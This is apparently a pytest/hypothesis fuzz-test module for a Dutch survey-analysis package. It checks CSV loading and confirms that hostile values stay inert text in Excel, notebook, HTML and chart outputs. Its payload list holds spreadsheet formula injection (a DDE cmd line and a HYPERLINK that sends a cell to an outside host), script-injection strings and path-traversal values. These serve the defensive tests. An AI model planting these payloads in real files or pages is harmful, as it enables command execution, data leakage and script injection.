"""Fuzzing the loader and the first analyses with generated survey files.

Every generated file either loads with exact accounting (rows read = data rows
written = rows used + rows excluded) or raises a ``drivers.errors.DriversError``;
``nps`` and ``key_drivers`` on a loaded survey succeed or raise a ``DriversError``.
Never another exception type. ``make fuzz`` runs 10,000 examples (tests/conftest.py).
"""

import csv
import io
import re
import warnings

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st

import drivers as dr
from drivers.errors import DriversError
from drivers.load.quality import parse_numbers
from drivers.stats.importance import key_drivers
from drivers.stats.nps import nps

SEPARATORS = [";", ",", "\t", "|"]
NA_CODES = ["n.v.t.", "nvt", "N.V.T.", "weet niet", "99", "", " "]
JUNK = st.text(
    alphabet=st.sampled_from(list("abcxyzé ü0123456789.,;|\t\"'-+eE\n\u00a0")), max_size=8
) | st.sampled_from(["inf", "-Infinity", "NaN", "1e400", "1_000", "0x1A", "7,5,5", "½"])


def _number(value: float, mark: str) -> str:
    text = repr(round(value, 3)) if not float(value).is_integer() else str(int(value))
    return text.replace(".", mark)


@st.composite
def cells(draw, low: float, high: float, mark: str) -> str:
    kind = draw(st.sampled_from(["whole", "whole", "whole", "decimal", "wide", "na", "junk"]))
    if kind == "whole":
        return str(draw(st.integers(int(low), int(high))))
    if kind == "decimal":
        return _number(draw(st.floats(low, high, allow_nan=False)), mark)
    if kind == "wide":
        return _number(draw(st.floats(-1e6, 1e6, allow_nan=False, allow_infinity=False)), mark)
    if kind == "na":
        return draw(st.sampled_from(NA_CODES))
    return draw(JUNK)


@st.composite
def survey_files(draw):
    """A survey export as text, its spec and the number of non-blank data rows."""
    sep = draw(st.sampled_from(SEPARATORS))
    mark = draw(st.sampled_from([",", "."]))
    n_grades = draw(st.integers(1, 4))
    grades = [f"tp{i}" for i in range(1, n_grades + 1)]
    with_weight = draw(st.booleans())
    with_id = draw(st.booleans())
    header = (["respondent"] if with_id else []) + ["aanbeveling", *grades, "regio"]
    header += ["gewicht"] if with_weight else []
    rows = []
    for _ in range(draw(st.integers(1, 25))):
        row = [f"r{draw(st.integers(1, 30))}"] if with_id else []
        row.append(draw(cells(0, 10, mark)))
        row += [draw(cells(1, 10, mark)) for _ in grades]
        row.append(draw(st.sampled_from(["Noord", "Zuid", "", "Zeeland"]) | JUNK))
        if with_weight:
            row.append(draw(cells(0, 3, mark)))
        rows.append(row)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    spec = dr.SurveySpec(
        nps="aanbeveling",
        touchpoints=tuple(dr.Touchpoint(g) for g in grades),
        segments=("regio",),
        weight="gewicht" if with_weight else None,
        id="respondent" if with_id else None,
    )
    filled = sum(1 for row in rows if any(cell.strip() for cell in row))
    return buffer.getvalue(), spec, filled


def _analyse(survey: dr.Survey) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for run in (
            lambda: nps(survey.nps_scores, survey.weights),
            lambda: key_drivers(survey, missing="pairwise", progress=False),
        ):
            try:
                run()
                event("analysis: ok")
            except DriversError as err:
                event(f"analysis: {type(err).__name__}")


@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(
    survey_files(),
    st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16"]),
)
def test_fuzz_load_and_analyse_csv(tmp_path, generated, encoding):
    text, spec, filled = generated
    path = tmp_path / "fuzz.csv"
    try:
        path.write_bytes(text.encode(encoding))
    except UnicodeEncodeError:
        path.write_bytes(text.encode("utf-8"))
    try:
        survey = dr.load_survey(path, spec)
    except DriversError as err:
        event(f"load: {type(err).__name__}")
        return
    event("load: ok")
    quality = survey.quality
    assert quality.rows_read == quality.rows_used + quality.rows_excluded
    assert quality.rows_read == filled
    assert quality.rows_used == survey.n
    assert int(quality.table["n"].sum()) == quality.rows_excluded
    assert survey.data[spec.nps].between(0, 10).all()
    assert np.isfinite(survey.grades.to_numpy(dtype=float)[~survey.grades.isna().to_numpy()]).all()
    if spec.weight:
        assert (survey.weights > 0).all() and np.isfinite(survey.weights).all()
    _analyse(survey)


@given(
    st.lists(
        st.one_of(
            st.text(max_size=12),
            st.floats(allow_nan=True, allow_infinity=True),
            st.integers(-(10**20), 10**20),
            st.none(),
        ),
        max_size=20,
    ),
    st.sampled_from([",", "."]),
)
def test_fuzz_parse_numbers(values, decimal):
    raw = pd.Series(values, dtype="object")
    nums, bad = parse_numbers(raw, decimal=decimal)
    assert len(nums) == len(bad) == len(raw)
    assert not np.isinf(nums).any()
    # every cell is a finite number, empty, or flagged as text: nothing disappears unseen
    empty = raw.map(
        lambda v: v is None or (isinstance(v, float) and np.isnan(v)) or str(v).strip() == ""
    )
    assert (nums.notna() | bad | empty).all()


# --------------------------------------------------------------------------- payloads
# Injection and privacy payloads: whatever a hostile or careless data file holds must
# reach a deliverable as inert text. Excel cells are text (never formulas), notebook
# Markdown and HTML show markup as characters, charts draw `$` as `$`, names become
# safe path parts, and planted ids, e-mail addresses and phone numbers reach nothing.

EMAIL = "p.devries@klant-voorbeeld.nl"
PHONE = "06-48213957"
PAYLOADS = [
    '=HYPERLINK("http://x.nl/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+cmd",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "*bold* [link](http://x.nl)",
    "$\\frac{a}{b}$",
    "$\\frac{x}$",
    "$x^2$",
    "../../etc",
    "/etc/passwd",
    "..\\..\\x",
    "a\x07b\x00c\x1b[31m",
    "Zuid\u202eedis",
    "N" * 5000,
    f"Mail {EMAIL} of bel Piet de Vries {PHONE}",
]
payloads = st.sampled_from(PAYLOADS) | st.builds(
    lambda a, p, b: a + p + b, st.text(max_size=4), st.sampled_from(PAYLOADS), st.text(max_size=4)
)
# What a deliverable may show of a payload: no invisible control or direction characters.
_INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _heavy() -> int:
    """Examples for the payload tests that write files: the profile's count, a tenth in
    `make fuzz` (10,000 workbooks would take an hour)."""
    return max(10, settings().max_examples // 10)


def _assert_text_cells(book, payload: str) -> None:
    found = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert not _INVISIBLE.search(cell.value), repr(cell.value)
                    found |= _visible(payload)[:50].lower() in _visible(cell.value).lower()
    assert found, "the payload is missing: shown as text, not dropped"


def _visible(text: str) -> str:
    return _INVISIBLE.sub("", text.replace("\r\n", "\n").replace("\r", "\n")).strip()


def _segment_table(payload: str) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "group": [payload, "Noord"],
            "n": [40, 60],
            "promoters": [0.5, 0.4],
            "passives": [0.3, 0.3],
            "detractors": [0.2, 0.3],
            "nps": [30.0, 10.0],
            "ci_low": [10.0, -5.0],
            "ci_high": [50.0, 25.0],
        }
    )


@settings(
    max_examples=_heavy(),
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(payloads)
def test_fuzz_payloads_stay_text_in_tables_xlsx(tmp_path, payload):
    import openpyxl

    from drivers.present.tables import write_workbook

    assume(_visible(payload))
    path = tmp_path / "tables.xlsx"
    write_workbook({"nps_regio": _segment_table(payload)}, path, lang="nl", title=payload)
    _assert_text_cells(openpyxl.load_workbook(path), payload)


@settings(
    max_examples=_heavy(),
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(payloads)
def test_fuzz_payloads_stay_text_in_the_decks_chart_workbooks(tmp_path, payload):
    import openpyxl
    from pptx import Presentation

    from drivers.present.deck import Deck

    assume(_visible(payload))
    deck = Deck(lang="nl")
    deck.add_nps_chart(_segment_table(payload), title=payload)
    deck.save(tmp_path / "deck.pptx")
    books = [
        shape.chart.part.chart_workbook.xlsx_part.blob
        for slide in Presentation(tmp_path / "deck.pptx").slides
        for shape in slide.shapes
        if shape.has_chart
    ]
    assert books
    for blob in books:
        _assert_text_cells(openpyxl.load_workbook(io.BytesIO(blob)), payload)


@given(payloads)
def test_fuzz_payloads_in_notebook_markdown_stay_text(payload):
    """What `dr.report.show` displays renders, as nbconvert renders it, without a tag,
    link or maths of the payload's making."""
    from unittest import mock

    import IPython.display
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    from drivers.workflow import report

    shown = []
    with mock.patch.object(IPython.display, "display", lambda obj: shown.append(obj.data)):
        report.show(f"- **Regio** {payload}: NPS +12")
    assert not _INVISIBLE.search(shown[0]), repr(shown[0])
    html = markdown2html_mistune(shown[0])
    # nbconvert's own same-page anchor after a heading is fine
    html = re.sub(r'<a class="anchor-link" href="#[^"]*">[^<]*</a>', "", html)
    tags = set(re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", html))
    # Markdown's own inert formatting may come out of a payload (a line break, emphasis);
    # never a link, image, script, frame or any tag that loads or runs something.
    inert = {"p", "ul", "ol", "li", "strong", "em", "br", "code", "pre", "blockquote", "hr"}
    inert |= {"del", "h1", "h2", "h3", "h4", "h5", "h6"}
    assert tags <= inert, (tags, html[:300])
    assert not re.search(r"<[^>]*\son\w+\s*=", html), html[:300]
    assert not re.search(r"(?<!\\)\$[^$]*(?<!\\)\$", html), html[:300]  # MathJax sees no maths


@settings(max_examples=_heavy(), suppress_health_check=[HealthCheck.too_slow])
@given(payloads)
def test_fuzz_payloads_in_chart_texts_are_drawn_literally(payload):
    import matplotlib.pyplot as plt
    from matplotlib.text import Text

    from drivers.present import charts

    ax = charts.nps_bar(_segment_table(payload), lang="nl", title=payload)
    try:
        ax.figure.canvas.draw()  # mathtext would raise on "$\frac{x}$"
        for text in ax.figure.findobj(Text):
            label = text.get_text()
            if label:
                assert not text._preprocess_math(label)[1], label  # no mathtext
                assert not _INVISIBLE.search(label), repr(label)
    finally:
        plt.close(ax.figure)


@given(payloads)
def test_fuzz_payload_names_become_safe_path_parts(payload):
    from drivers.errors import SpecError
    from drivers.load.wave import slugify

    try:
        slug = slugify(payload)
    except SpecError:
        return
    assert re.fullmatch(r"[A-Za-z0-9_.-]+", slug) and ".." not in slug
    assert not slug.startswith((".", "-"))


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """`drivers run` of the demo client with the payloads in its data and config: region
    values, a touchpoint label and the client's display name; e-mail addresses as
    respondent ids; phone numbers and e-mail addresses in the open answers."""
    import shutil

    from drivers import demo
    from drivers.workflow.run import run_client

    folder = tmp_path_factory.mktemp("clients") / "hostile"
    shutil.copytree(demo.demo_dir(), folder)
    (folder / "wave_2024.sav").unlink()
    ids = set()
    for wave in ("2023", "2024"):
        raw, _ = dr.read_table(folder / f"wave_{wave}.csv")
        raw["respondent"] = [f"resp{i:04d}.{wave}@klant-voorbeeld.nl" for i in range(len(raw))]
        ids |= set(raw["respondent"])
        regions = [p for p in PAYLOADS if "@" not in p and "\r" not in p][:12]
        raw["regio"] = [regions[i % len(regions)] for i in range(len(raw))]
        raw.loc[: len(raw) // 3, "toelichting"] = f"Bel mij: {PHONE} of {EMAIL}"
        raw.to_csv(folder / f"wave_{wave}.csv", sep=";", index=False, encoding="utf-8")
    spec = (folder / "survey.toml").read_text(encoding="utf-8")
    spec = spec.replace('nl = "Accountmanager"', 'nl = "=SUM(A1) <b>$x^2$</b>"', 1)
    (folder / "survey.toml").write_text(spec, encoding="utf-8")
    config = (folder / "client.toml").read_text(encoding="utf-8")
    config = config.replace('name = "demo"', 'name = "hostile"').replace(
        'client = "Van Dijk Groothandel"', 'client = "<script>alert(1)</script> =1+1 $x^2$ ../x"'
    )
    config = config.replace(
        "bootstrap = 500", "bootstrap = 20\nsimulate_bootstrap = 10\nsimulate_top = 1"
    )
    (folder / "client.toml").write_text(config, encoding="utf-8")
    out = tmp_path_factory.mktemp("reports")
    report = run_client(folder / "client.toml", out_root=out, bootstrap=20, progress=False)
    return out, report, ids


def test_fuzz_hostile_client_writes_only_inside_its_report(hostile_report):
    out, report, _ = hostile_report
    assert report == out / "hostile" / "2024"
    for path in out.rglob("*"):
        part = path.relative_to(out)
        assert all(re.fullmatch(r"[A-Za-z0-9_.-]+", p) and ".." not in p for p in part.parts)


def test_fuzz_hostile_client_html_and_markdown_show_markup_as_text(hostile_report):
    import nbformat

    _, report, _ = hostile_report
    for html in report.glob("*.html"):
        text = html.read_text(encoding="utf-8")
        assert "<script>alert(1)" not in text and "<img src=x onerror" not in text, html.name
        assert "<b>$x^2$" not in text
        # "$x^2$" only where MathJax leaves it alone: in <pre> (text output) or in a table
        # marked tex2jax_ignore; in Markdown it arrives as "\$x^2\$"
        for found in re.finditer(r"(?<!\\)\$x\^2(?<!\\)\$", text):
            before = text[: found.start()]
            in_pre = before.rfind("<pre") > before.rfind("</pre>")
            table = before.rfind("<table")
            ignored = table > before.rfind("</table>") and "tex2jax_ignore" in text[table:][:200]
            assert in_pre or ignored, (html.name, text[found.start() - 200 : found.end()])
    for notebook in report.glob("*.ipynb"):
        for cell in nbformat.read(notebook, as_version=4).cells:
            for output in cell.get("outputs", []):
                data = output.get("data", {})
                for kind in ("text/markdown", "text/html"):
                    shown = data.get(kind, "")
                    assert "<script>alert" not in shown and "<img src=x" not in shown
                    assert "<b>$x^2$" not in shown, (notebook.name, shown[:200])


def test_fuzz_hostile_client_workbooks_hold_text_not_formulas(hostile_report):
    import zipfile

    import openpyxl

    _, report, _ = hostile_report
    books = [openpyxl.load_workbook(report / "tables.xlsx")]
    with zipfile.ZipFile(next(report.glob("*.pptx"))) as deck:
        books += [
            openpyxl.load_workbook(io.BytesIO(deck.read(n)))
            for n in deck.namelist()
            if n.endswith(".xlsx")
        ]
    assert len(books) > 3
    texts = []
    for book in books:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not _INVISIBLE.search(cell.value), repr(cell.value)
                        texts.append(cell.value)
    shown = "\n".join(texts)
    assert '=HYPERLINK("http://x.nl/?"&A1,"klik")' in shown and "=SUM(A1)" in shown


def test_fuzz_hostile_client_charts_draw_dollars_literally(hostile_report):
    _, report, _ = hostile_report
    svg = (report / "charts" / "touchpoint_grades.svg").read_text(encoding="utf-8")
    assert "$x^2$" in svg  # drawn as text (svg.fonttype none), not typeset as maths
    regions = (report / "charts" / "nps_regio.svg").read_text(encoding="utf-8")
    assert "\\frac{a}{b}" in regions


def test_fuzz_hostile_client_no_id_email_or_phone_in_any_deliverable(hostile_report):
    from test_privacy import _texts

    _, report, ids = hostile_report
    leaks = []
    for where, text in _texts(report):
        lower = text.lower()
        for secret in (EMAIL, PHONE, "48213957", "klant-voorbeeld"):
            if secret.lower() in lower:
                leaks.append((where, secret))
        leaks += [(where, i) for i in ids if i in text]
    assert not leaks, leaks[:10]
